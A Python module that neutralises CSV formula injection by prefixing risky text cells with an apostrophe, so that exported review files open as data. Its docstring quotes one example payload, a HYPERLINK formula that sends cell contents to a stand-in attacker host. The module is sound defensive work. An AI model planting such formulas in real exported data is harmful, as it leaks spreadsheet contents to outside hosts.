"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

The CSV files the platform writes (the weekly review, an import's rejected rows)
are opened in Excel or LibreOffice by the team, and those programs run a cell
that starts like a formula: a root-cause code or an echoed import value such as
`=HYPERLINK("https://evil.example/?"&A1)` would run on a supervisor's desktop.
Every text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets
a leading `'`, which spreadsheets show as text and do not evaluate (OWASP's
advice); the csv module's quoting then keeps separators and quotes inside it.

Numbers stay numbers: a typed int, Decimal or finite float prints as digits with
at most a sign, a point and an exponent, so `-1250` (a credit, a negative change)
cannot be a formula, and a column of amounts must still add up. Only typed
numbers pass: text that merely looks like one, such as `-12.50` read from an
input file, is neutralised like any other text, since text is not proven to be
a number by its look (`-2+3` also starts with a minus).
"""

from __future__ import annotations

import csv
import math
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _TextSink(Protocol):
    def write(self, text: str, /) -> Any: ...


def formula_safe(value: Any) -> Any:
    """The cell as a spreadsheet should show it: numbers as they are, None empty, and
    text starting like a formula behind a `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int) or (isinstance(value, (float, Decimal)) and math.isfinite(value)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class FormulaSafeWriter:
    """`csv.writer` whose every cell goes through `formula_safe`: the one way the
    platform writes CSV, so no file forgets it."""

    def __init__(self, sink: _TextSink, **fmtparams: Any) -> None:
        self._writer = csv.writer(sink, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([formula_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
